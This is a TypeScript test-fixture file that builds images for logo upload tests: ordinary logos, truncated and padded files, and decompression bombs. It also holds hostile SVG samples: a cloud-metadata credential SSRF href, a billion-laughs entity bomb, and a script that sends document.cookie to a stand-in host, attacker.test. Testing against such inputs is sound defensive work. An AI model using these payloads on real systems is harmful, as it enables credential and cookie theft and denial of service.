/**
 * Images for the logo tests, made with sharp or crafted byte by byte (bombs: headers that declare
 * huge sizes over a few bytes of data — their pixels are never allocated). `FIXTURE_IMAGES` is what
 * fixtures/images/ holds; src/logo/fixtures.test.ts checks it and rewrites it with
 * PLEO_WRITE_FIXTURE_IMAGES=1.
 */
import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';

type Colour = string;

export function solid(width: number, height: number, format: 'png' | 'jpeg' | 'webp' | 'gif' | 'tiff', background: Colour = '#2a6df4'): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background } })[format]().toBuffer();
}

/** Three frames, 64×64. */
export async function animated(format: 'gif' | 'webp'): Promise<Buffer> {
  const frames = await Promise.all(['#f00', '#0f0', '#00f'].map((colour) => solid(64, 64, 'png', colour)));
  return sharp(frames, { join: { animated: true } })[format]({ loop: 0, delay: [200, 200, 200] }).toBuffer();
}

/** Stored 400×300, displayed 300×400 (EXIF orientation 6: rotate 90° clockwise). */
export function exifRotatedJpeg(): Promise<Buffer> {
  return sharp({ create: { width: 400, height: 300, channels: 3, background: '#888' } }).jpeg().withMetadata({ orientation: 6 }).toBuffer();
}

/** A noisy PNG (fixed pseudo-random pixels, so it is the same every time) cut in half: the header is fine, the pixel data ends early. */
export async function truncatedPng(): Promise<Buffer> {
  const pixels = Buffer.alloc(128 * 128 * 3);
  let state = 12345;
  for (let i = 0; i < pixels.length; i++) pixels[i] = (state = (state * 1103515245 + 12345) >>> 0) >>> 24;
  const png = await sharp(pixels, { raw: { width: 128, height: 128, channels: 3 } }).png().toBuffer();
  return png.subarray(0, Math.floor(png.length / 2));
}

/** A PNG of `size` bytes or more: a 512×512 logo followed by a private ancillary chunk of zeros (compresses to nothing in git). */
export async function paddedPng(size: number): Promise<Buffer> {
  const png = await solid(512, 512, 'png');
  const iend = png.length - 12;
  const padding = pngChunk('pdDg', Buffer.alloc(Math.max(0, size - png.length - 12)));
  return Buffer.concat([png.subarray(0, iend), padding, png.subarray(iend)]);
}

/** A PNG signature, an IHDR declaring width × height, a tiny IDAT and IEND: 69 bytes, whatever the size. */
export function pngBomb(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 2; // RGB
  const idat = deflateSync(Buffer.alloc(1 + 3 * 16));
  return Buffer.concat([PNG_SIGNATURE, pngChunk('IHDR', ihdr), pngChunk('IDAT', idat), pngChunk('IEND', Buffer.alloc(0))]);
}

/** A real 16×16 JPEG whose SOF0 is rewritten to declare width × height. */
export async function jpegBomb(width: number, height: number): Promise<Buffer> {
  const jpeg = Buffer.from(await solid(16, 16, 'jpeg'));
  for (let at = 2; at + 9 < jpeg.length; ) {
    const marker = jpeg[at + 1]!;
    if (marker >= 0xc0 && marker <= 0xc2) {
      jpeg.writeUInt16BE(height, at + 5);
      jpeg.writeUInt16BE(width, at + 7);
      return jpeg;
    }
    at += 2 + jpeg.readUInt16BE(at + 2);
  }
  throw new Error('no SOF segment');
}

/** An extended WebP (VP8X) whose canvas declares width × height over a 16×16 frame. */
export async function webpBomb(width: number, height: number): Promise<Buffer> {
  const webp = Buffer.from(await sharp({ create: { width: 16, height: 16, channels: 4, background: '#0a08' } }).webp().toBuffer());
  if (webp.toString('latin1', 12, 16) !== 'VP8X') throw new Error('expected an extended WebP');
  webp.writeUIntLE(width - 1, 24, 3);
  webp.writeUIntLE(height - 1, 27, 3);
  return webp;
}

export const SVG = {
  square: '<?xml version="1.0" encoding="UTF-8"?>\n<!-- Acme Books -->\n<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" viewBox="0 0 64 64"><rect width="64" height="64" rx="12" fill="#2a6df4"/></svg>\n',
  wide: '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 300 100"><rect width="300" height="100" fill="#2a6df4"/></svg>\n',
  externalHref:
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64">' +
    '<image xlink:href="http://169.254.169.254/latest/meta-data/iam/security-credentials/" width="64" height="64"/>' +
    '<rect width="64" height="64" fill="#2a6df4" fill-opacity="0.5"/></svg>\n',
  billionLaughs:
    '<?xml version="1.0"?>\n<!DOCTYPE svg [\n' +
    '<!ENTITY a "lollollollollollollollollollol">\n' +
    ['b', 'c', 'd', 'e', 'f', 'g', 'h', 'i', 'j'].map((name, index) => `<!ENTITY ${name} "${`&${'abcdefghi'[index]};`.repeat(10)}">`).join('\n') +
    '\n]>\n<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><text y="20">&j;</text></svg>\n',
  script: '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" onload="alert(document.cookie)"><script>fetch("https://attacker.test/?c="+document.cookie)</script><rect width="64" height="64" fill="#2a6df4"/></svg>\n',
} as const;

/** What fixtures/images/ holds: file name → bytes. */
export const FIXTURE_IMAGES: Readonly<Record<string, () => Promise<Uint8Array> | Uint8Array>> = {
  'logo-512.png': () => solid(512, 512, 'png'),
  'logo-1024.png': () => solid(1024, 1024, 'png'),
  'logo-512.jpg': () => solid(512, 512, 'jpeg'),
  'logo-512.webp': () => solid(512, 512, 'webp'),
  'logo-300x200.png': () => solid(300, 200, 'png'),
  'logo-384.png': () => solid(384, 384, 'png'),
  'logo-200.png': () => solid(200, 200, 'png'),
  'logo-100.png': () => solid(100, 100, 'png'),
  'tall-1x100000.png': () => solid(1, 100_000, 'png'),
  'logo-512.gif': () => solid(512, 512, 'gif'),
  'animated.gif': () => animated('gif'),
  'animated.webp': () => animated('webp'),
  'logo-512.tiff': () => solid(512, 512, 'tiff'),
  'square.svg': () => Buffer.from(SVG.square),
  'wide.svg': () => Buffer.from(SVG.wide),
  'external-href.svg': () => Buffer.from(SVG.externalHref),
  'billion-laughs.svg': () => Buffer.from(SVG.billionLaughs),
  'script.svg': () => Buffer.from(SVG.script),
  'exif-6-400x300.jpg': () => exifRotatedJpeg(),
  'truncated.png': () => truncatedPng(),
  'bomb-40000x40000.png': () => pngBomb(40_000, 40_000),
  'bomb-65500x65500.jpg': () => jpegBomb(65_500, 65_500),
  'bomb-16383x16383.webp': () => webpBomb(16_383, 16_383),
  'png-named.jpg': () => solid(512, 512, 'png'),
  'not-an-image.png': () => Buffer.from('<!DOCTYPE html>\n<html><body>404 Not Found</body></html>\n'),
  'large-1.2mib.png': () => paddedPng(1.2 * 1024 * 1024),
};

/** The eight bytes every PNG starts with. */
export const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/** A PNG chunk: length, type, data and the CRC of type and data. */
export function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}
